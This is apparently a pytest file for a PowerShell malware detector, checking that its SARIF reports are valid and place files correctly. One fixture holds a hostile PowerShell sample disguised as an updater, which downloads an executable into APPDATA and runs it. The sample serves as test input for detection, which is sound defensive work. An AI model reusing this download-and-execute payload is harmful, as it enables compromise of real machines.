"""SARIF has what the schema and GitHub ask for, and names files so that both find them."""

import io
import json
import os
from dataclasses import replace
from urllib.parse import unquote_to_bytes, urljoin

import jsonschema
import polars as pl
import pytest

from psembed.cli import main
from psembed.detector import sarif
from psembed.detector.verdict import Event, LayerScore, Region, Verdict

SCRIPT = (LayerScore("script", -1, 0, 300, 0.99),)
LAYERS = (LayerScore("script", -1, 0, 300, 0.2), LayerScore("gzip", 0, 1, 40, 0.99))
PLACE = Region(3, 5, 4, 9, "39fa2ee980eb94b0:1")
BAD = Verdict("a dir/b.ps1", "ab" * 32, "utf-8", 0.99, True, 1, LAYERS, region=PLACE)
BLOCK = Verdict(
    "logs/x.evtx:f3\udcff", "ef" * 32, "text", 0.99, True, 0, SCRIPT, part="f3\udcff", region=PLACE
)
BLOCK = replace(BLOCK, event=Event("", "pc", "", "f3\udcff"))
CLEAN = Verdict("c.ps1", "cd" * 32, "ascii", 0.125, False, 0, LAYERS[:1])
UNREAD = Verdict("\x1b[31mred\udcff.ps1", reason="binary data, not a script")
ALL = [BAD, CLEAN, UNREAD, BLOCK]


def an(required=(), **properties):
    """A closed object, of which all of `required` must be there."""
    return {
        "type": "object",
        "properties": properties,
        "required": list(required),
        "additionalProperties": False,
    }


def array(of, least=0):
    return {"type": "array", "items": of, "minItems": least, "uniqueItems": True}


TEXT, COUNT = {"type": "string", "minLength": 1}, {"type": "integer", "minimum": 1}
URI = {"type": "string", "pattern": r"^(?:[A-Za-z0-9._~!$&'()*+,;=:@/-]|%[0-9A-F]{2})+$"}
ARTIFACT = an(["uri"], uri=URI, uriBaseId=TEXT, description=an(["text"], text=TEXT))
FOLDER = an(["uri"], uri={**URI, "pattern": r"^file:///.*/$|^file:///$"})
REGION = {name: COUNT for name in ("startLine", "startColumn", "endLine", "endColumn")}
LOCATION = an(
    ["physicalLocation"],
    physicalLocation=an(["artifactLocation"], artifactLocation=ARTIFACT, region=an(REGION, **REGION)),
    logicalLocations=array(an(["name"], name=TEXT, fullyQualifiedName=TEXT, kind=TEXT), 1),
)
MESSAGE = an(["text"], text=TEXT, markdown=TEXT)
LEVEL = {"enum": ["none", "note", "warning", "error"]}
RULE = an(  # GitHub asks for the descriptions and the help, too
    ["id", "shortDescription", "fullDescription", "help"],
    **{"id": TEXT, "name": {"type": "string", "pattern": "^[A-Z][A-Za-z]+$"}, "help": MESSAGE},
    shortDescription=MESSAGE,
    fullDescription=MESSAGE,
    defaultConfiguration=an(level=LEVEL),
    properties={"type": "object", "properties": {"tags": array(TEXT), "security-severity": TEXT}},
)
SUPPRESSION = an(
    ["kind"],
    kind={"enum": ["inSource", "external"]},
    status={"enum": ["accepted", "underReview", "rejected"]},
    justification=TEXT,
)
RESULT = an(
    ["ruleId", "message", "locations", "partialFingerprints"],
    ruleId=TEXT,
    ruleIndex={"type": "integer", "minimum": 0},
    level=LEVEL,
    message=MESSAGE,
    locations=array(LOCATION, 1),
    partialFingerprints={"type": "object", "additionalProperties": TEXT},
    suppressions=array(SUPPRESSION),
    properties={"type": "object"},
)
TOLD = an(["message"], level=LEVEL, message=MESSAGE, locations=array(LOCATION))
INVOCATION = an(
    ["executionSuccessful"],
    executionSuccessful={"type": "boolean"},
    workingDirectory=FOLDER,
    toolExecutionNotifications=array(TOLD),
)
RUN = an(
    ["tool", "results"],
    tool=an(["driver"], driver=an(["name", "rules"], name=TEXT, version=TEXT, rules=array(RULE, 1))),
    invocations=array(INVOCATION),
    originalUriBaseIds={"type": "object", "additionalProperties": FOLDER},
    columnKind={"enum": ["utf16CodeUnits", "unicodeCodePoints"]},
    results=array(RESULT),
)
SCHEMA = an(["version", "runs"], **{"$schema": URI}, version={"const": "2.1.0"}, runs=array(RUN))
"""What the schema of SARIF, and GitHub beyond it, ask of the objects that we write; nothing else passes."""


def report(verdicts):
    """The one run of a report, which is valid."""
    stream = io.StringIO()
    sarif.write_sarif(verdicts, stream)
    content = json.loads(stream.getvalue())
    jsonschema.validate(content, SCHEMA, cls=jsonschema.Draft202012Validator)
    return content["runs"][0]


def uri_of(name):
    (result,) = report([Verdict(name, "00", "ascii", 0.9, True, 0, SCRIPT)])["results"]
    return result["locations"][0]["physicalLocation"]["artifactLocation"]


@pytest.mark.parametrize("verdicts", [[], ALL, [UNREAD], [BAD]])
def test_a_report_is_valid(verdicts):
    run = report(verdicts)
    assert len(run["results"]) == sum(bool(verdict.malicious) for verdict in verdicts)


def test_results_are_malicious_scripts_and_notifications_what_was_not_scored():
    run = report(ALL)
    first, _ = run["results"]
    assert first["ruleId"] == run["tool"]["driver"]["rules"][first["ruleIndex"]]["id"]
    assert "0.99" in first["message"]["text"] and "layer 1, gzip" in first["message"]["text"]
    (told,) = run["invocations"][0]["toolExecutionNotifications"]
    assert "binary data" in told["message"]["text"]
    assert "%1B" in told["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]


def test_a_result_has_a_region_and_the_fingerprint_that_github_reads():
    first, _ = report(ALL)["results"]
    place = first["locations"][0]["physicalLocation"]
    assert place["region"] == {"startLine": 3, "startColumn": 5, "endLine": 4, "endColumn": 9}
    assert first["partialFingerprints"] == {
        "primaryLocationLineHash": "39fa2ee980eb94b0:1",
        "sha256": "ab" * 32,
    }
    assert report(ALL)["columnKind"] == "utf16CodeUnits"


def test_what_lies_within_a_file_is_a_logical_location():
    _, block = report(ALL)["results"]
    location = block["locations"][0]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == "logs/x.evtx"
    assert location["physicalLocation"]["region"]["startLine"] == 1
    (place,) = location["logicalLocations"]
    assert (place["name"], place["kind"]) == ("f3\\udcff", "script block")
    assert "line 3 of f3" in block["message"]["text"]


def test_what_was_only_found_and_holds_nothing_is_a_note():
    (told,) = report([replace(UNREAD, skipped=True)])["invocations"][0]["toolExecutionNotifications"]
    assert told["level"] == "note"


MALICIOUS = (
    "# keeps the machine up to date\r\n$wc = New-Object System.Net.WebClient\r\n"
    "$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\r\n$wc.DownloadFile('http://192.0.2.5/x.exe', "
    '"$env:APPDATA\\x.exe")\r\nStart-Process "$env:APPDATA\\x.exe"\r\n'
)


def test_the_command_marks_a_script_and_a_row_by_the_lines_of_their_text(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.ps1").write_text(MALICIOUS, newline="")
    pl.DataFrame({"data": ["Get-Date", MALICIOUS]}).write_parquet("t.parquet")
    assert main.main(["score", "a.ps1", "t.parquet", "--format", "sarif"]) == 1
    run = json.loads(capsys.readouterr().out)["runs"][0]
    jsonschema.validate({"version": "2.1.0", "runs": [run]}, SCHEMA)
    script, row = run["results"]
    region = script["locations"][0]["physicalLocation"]["region"]
    assert 2 <= region["startLine"] <= region["endLine"] <= 5
    assert row["locations"][0]["logicalLocations"][0]["kind"] == "row"
    assert row["locations"][0]["logicalLocations"][0]["name"] == "1"
    assert f"line {region['startLine']} of 1" in row["message"]["text"]
    assert row["partialFingerprints"] == script["partialFingerprints"]


@pytest.mark.parametrize(("comment", "more"), [("", {}), ("ours", {"justification": "ours"})])
def test_what_is_accepted_is_suppressed(comment, more):
    known, new = report([replace(BAD, accepted=comment), BLOCK])["results"]
    assert known["suppressions"] == [{"kind": "external", "status": "accepted"} | more]
    assert new["suppressions"] == []


NAMES = ["b.ps1", "a dir/b.ps1", "./c:d.ps1", "50%25 #?&+.ps1", "\u00e9\U0001f600.ps1", "a//b/./c.ps1"]
if os.name != "nt":
    NAMES += [r"back\slash.ps1", "tab\there\n.ps1", "raw\udcff\udc80.ps1"]


@pytest.mark.parametrize("name", NAMES)
def test_a_file_below_the_working_folder_is_relative_to_it(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for given in (name, str(tmp_path / name), f"../{tmp_path.name}/{name}"):
        place = uri_of(given)
        assert place["uriBaseId"] == "%SRCROOT%" and ":" not in place["uri"]
        assert unquote_to_bytes(place["uri"]) == os.fsencode(os.path.normpath(name).replace(os.sep, "/"))
    base = report([])["originalUriBaseIds"]["%SRCROOT%"]["uri"]
    assert urljoin(base, place["uri"]) == (tmp_path / os.path.normpath(name)).as_uri()


@pytest.mark.parametrize("name", NAMES)
def test_a_file_elsewhere_has_a_file_uri(name, tmp_path, monkeypatch):
    (tmp_path / "work").mkdir()
    (tmp_path / "work space").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    wanted = {"uri": (tmp_path / "work space" / os.path.normpath(name)).as_uri()}
    assert uri_of(f"../work space/{name}") == uri_of(str(tmp_path / "work space" / name)) == wanted


@pytest.mark.skipif(os.name == "nt", reason="its root is a drive")
def test_in_the_root_folder_all_files_are_relative(monkeypatch):
    monkeypatch.chdir("/")
    assert uri_of("/a/b.ps1") == uri_of("a/b.ps1") == {"uri": "a/b.ps1", "uriBaseId": "%SRCROOT%"}


def test_standard_input_is_no_file():
    assert uri_of("-") == {"uri": "-", "description": {"text": "standard input"}}
